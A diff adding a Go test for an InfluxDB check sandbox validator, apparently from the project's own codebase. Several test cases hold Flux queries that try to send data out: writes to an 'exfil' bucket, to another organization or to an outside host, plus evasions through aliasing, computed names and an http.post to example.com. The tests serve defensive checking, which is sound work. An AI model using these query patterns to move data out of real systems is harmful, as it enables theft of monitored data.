@@ -0,0 +1,99 @@
+package check_test
+
+import (
+	"testing"
+
+	"github.com/influxdata/influxdb"
+	"github.com/influxdata/influxdb/notification/check"
+)
+
+func TestSandbox_Validate(t *testing.T) {
+	for _, tt := range []struct {
+		name      string
+		text      string
+		allowPost bool
+		wantErr   bool
+	}{
+		{
+			name: "read only",
+			text: `from(bucket: "telegraf") |> range(start: -1m) |> filter(fn: (r) => r.to == "x")`,
+		},
+		{
+			name: "write to the status bucket",
+			text: `from(bucket: "telegraf") |> range(start: -1m) |> to(bucket: "_monitoring")`,
+		},
+		{
+			name:    "write to another bucket",
+			text:    `from(bucket: "telegraf") |> range(start: -1m) |> to(bucket: "exfil")`,
+			wantErr: true,
+		},
+		{
+			name: "write to the status bucket of the organization",
+			text: `from(bucket: "telegraf") |> range(start: -1m) |> to(bucket: "_monitoring", org: "theorg")`,
+		},
+		{
+			name: "write to the status bucket of the organization by id",
+			text: `from(bucket: "telegraf") |> range(start: -1m) |> to(bucket: "_monitoring", orgID: "000000000000000a")`,
+		},
+		{
+			name:    "write to the status bucket of another organization",
+			text:    `from(bucket: "telegraf") |> range(start: -1m) |> to(bucket: "_monitoring", org: "other")`,
+			wantErr: true,
+		},
+		{
+			name:    "write to the status bucket of another host",
+			text:    `from(bucket: "telegraf") |> range(start: -1m) |> to(bucket: "_monitoring", host: "https://example.com", token: "t")`,
+			wantErr: true,
+		},
+		{
+			name:    "write to a computed bucket",
+			text:    `b = "exfil"` + "\n" + `from(bucket: "telegraf") |> range(start: -1m) |> to(bucket: b)`,
+			wantErr: true,
+		},
+		{
+			name:    "write with the to of a package",
+			text:    `import "experimental"` + "\n" + `from(bucket: "telegraf") |> range(start: -1m) |> experimental.to(bucket: "exfil")`,
+			wantErr: true,
+		},
+		{
+			name:    "alias to",
+			text:    `write = to` + "\n" + `from(bucket: "telegraf") |> range(start: -1m) |> write(bucket: "exfil")`,
+			wantErr: true,
+		},
+		{
+			name:    "post",
+			text:    `import "http"` + "\n" + `http.post(url: "https://example.com", data: bytes(v: "x"))`,
+			wantErr: true,
+		},
+		{
+			name:    "post with an aliased package",
+			text:    `import h "http"` + "\n" + `post = h.post` + "\n" + `post(url: "https://example.com", data: bytes(v: "x"))`,
+			wantErr: true,
+		},
+		{
+			name:      "post allowed",
+			text:      `import "http"` + "\n" + `http.post(url: "https://example.com", data: bytes(v: "x"))`,
+			allowPost: true,
+		},
+		{
+			name: "invalid flux",
+			text: `from(bucket: `,
+		},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			s := check.Sandbox{
+				StatusBucket:  influxdb.MonitoringBucketName,
+				AllowHTTPPost: tt.allowPost,
+				Org:           "theorg",
+				OrgID:         10,
+			}
+			err := s.Validate(influxdb.DashboardQuery{Text: tt.text})
+			if tt.wantErr && influxdb.ErrorCode(err) != influxdb.EForbidden {
+				t.Errorf("expected the query to be forbidden, got %v", err)
+			}
+			if !tt.wantErr && err != nil {
+				t.Errorf("unexpected error: %v", err)
+			}
+		})
+	}
+}